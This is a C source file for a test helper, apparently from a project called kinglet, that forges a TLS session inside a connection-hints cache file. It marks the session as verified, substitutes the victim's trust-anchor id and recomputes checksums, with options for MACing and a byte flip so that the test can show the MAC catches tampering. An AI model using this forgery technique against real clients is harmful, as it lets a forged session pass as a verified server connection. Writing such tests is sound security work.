/* kinglet — plants a TLS session in a connection-hints file, as an attacker
 * who can write the file would (tests/integration/hints_auth_test.sh).
 *
 *   hints_forge --session FILE --ca VICTIM_CA_PEM --domain D --out FILE
 *               [--mac-key KEYFILE | --no-mac] [--flip]
 *
 * --session: a kl_tls session blob (tls_resume_client --session-out) that
 * the attacker got from their own server. Everything kl_tls checks in it
 * is public or recomputable: the verified flag is set, the trust-anchor id
 * is made the victim's (SHA-256 over the DER of the certificates in
 * VICTIM_CA_PEM), its digest is recomputed. The hints blob for domain D
 * carries it (and nothing else), sealed (checksum recomputed).
 * Blob formats with a MAC (KL_CACHE_VERSION >= 2): --mac-key KEYFILE MACs
 * it with that key (an attacker's own key: a valid-looking MAC; the
 * device's key: what the MAC is there to make impossible); --no-mac leaves
 * the MAC zero. --flip: after the MAC, one byte changes (srv_port) and the
 * checksum is recomputed, so only the MAC can notice. Older formats (no
 * MAC): the sealed blob is the whole forgery.
 * The output is written 0600 (so that a client that drops sessions from
 * readable files is tested on the MAC, not on the mode).
 * Builds against whichever tree's headers it is compiled with: the test
 * runs the pre-change CLI with a forge built in that tree.
 */
#define _POSIX_C_SOURCE 200809L
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "kinglet/kl_cache.h"
#include "kl_tls.h" /* KL_TLS_SESSION_HDR / _DIGEST: the blob layout */
#include "mbedtls/sha256.h"
#include "mbedtls/x509_crt.h"
#if KL_CACHE_VERSION >= 2
#include "kl_crypto_mbedtls.h"
#endif

static kl_cache_t cache;

static void die(const char *what)
{
    fprintf(stderr, "hints_forge: %s\n", what);
    exit(1);
}

static size_t read_file(const char *path, uint8_t *buf, size_t cap)
{
    FILE *f = fopen(path, "rb");
    size_t n;
    if (!f)
        die("cannot open an input file");
    n = fread(buf, 1, cap, f);
    fclose(f);
    return n;
}

int main(int argc, char **argv)
{
    const char *session = NULL, *ca = NULL, *domain = NULL, *out = NULL, *mac_key = NULL;
    int no_mac = 0, flip = 0, i, fd;
    static uint8_t blob[KL_CACHE_TLS_SESSION_MAX + 1];
    uint8_t d[32];
    size_t n, size;
    mbedtls_x509_crt chain;
    mbedtls_sha256_context h;

    for (i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "--session") && i + 1 < argc) session = argv[++i];
        else if (!strcmp(argv[i], "--ca") && i + 1 < argc) ca = argv[++i];
        else if (!strcmp(argv[i], "--domain") && i + 1 < argc) domain = argv[++i];
        else if (!strcmp(argv[i], "--out") && i + 1 < argc) out = argv[++i];
        else if (!strcmp(argv[i], "--mac-key") && i + 1 < argc) mac_key = argv[++i];
        else if (!strcmp(argv[i], "--no-mac")) no_mac = 1;
        else if (!strcmp(argv[i], "--flip")) flip = 1;
        else die("usage: --session F --ca F --domain D --out F [--mac-key F | --no-mac] [--flip]");
    }
    if (!session || !ca || !domain || !out)
        die("--session, --ca, --domain and --out are required");

    /* the session blob, made to look verified under the victim's anchors */
    n = read_file(session, blob, sizeof blob);
    if (n < KL_TLS_SESSION_HDR + KL_TLS_SESSION_DIGEST || n > KL_CACHE_TLS_SESSION_MAX)
        die("session blob: size out of range");
    blob[6] |= 0x01; /* "the server certificate was verified" */
    mbedtls_x509_crt_init(&chain);
    if (mbedtls_x509_crt_parse_file(&chain, ca) != 0)
        die("cannot parse the CA file");
    mbedtls_sha256_init(&h);
    mbedtls_sha256_starts(&h, 0);
    for (const mbedtls_x509_crt *c = &chain; c != NULL && c->raw.len > 0; c = c->next)
        mbedtls_sha256_update(&h, c->raw.p, c->raw.len);
    mbedtls_sha256_finish(&h, d);
    mbedtls_sha256_free(&h);
    mbedtls_x509_crt_free(&chain);
    memcpy(blob + 8, d, 8); /* the victim's trust-anchor id */
    mbedtls_sha256(blob, n - KL_TLS_SESSION_DIGEST, d, 0);
    memcpy(blob + n - KL_TLS_SESSION_DIGEST, d, KL_TLS_SESSION_DIGEST);

    /* the hints blob that carries it */
    memset(&cache, 0, sizeof cache);
    kl_cache_reset(&cache, domain);
    memcpy(cache.tls_session, blob, n);
    cache.tls_session_len = (uint16_t)n;
    kl_cache_seal(&cache);
#if KL_CACHE_VERSION >= 2
    if (mac_key && !no_mac) {
        static kl_crypto_mbedtls_t crypto;
        uint8_t key[KL_CACHE_KEY_LEN + 1];
        if (read_file(mac_key, key, sizeof key) != KL_CACHE_KEY_LEN)
            die("the MAC key file must hold 32 bytes");
        if (kl_crypto_mbedtls_init(&crypto) != 0)
            die("mbedTLS DRBG");
        if (kl_cache_store(&cache, &crypto.table, key, KL_CACHE_KEY_LEN) != KL_OK)
            die("kl_cache_store");
    }
    size = KL_CACHE_BLOB_SIZE;
#else
    (void)mac_key, (void)no_mac;
    size = sizeof cache;
#endif
    if (flip) {
        cache.srv_port ^= 0x0100; /* after the MAC */
        kl_cache_seal(&cache);
    }

    unlink(out);
    fd = open(out, O_WRONLY | O_CREAT | O_EXCL, S_IRUSR | S_IWUSR);
    if (fd < 0 || write(fd, &cache, size) != (ssize_t)size || close(fd) != 0)
        die("cannot write the output");
    printf("hints_forge: %s: %zu-byte hints blob (format %u) for %s carrying a %zu-byte TLS session%s%s\n", out,
           size, (unsigned)KL_CACHE_VERSION, domain, n,
#if KL_CACHE_VERSION >= 2
           mac_key && !no_mac ? ", MACed with " : ", no MAC",
           mac_key && !no_mac ? mac_key : "");
#else
           ", no MAC in this format", "");
#endif
    if (flip)
        printf("hints_forge: one byte changed after sealing (srv_port), checksum recomputed\n");
    return 0;
}
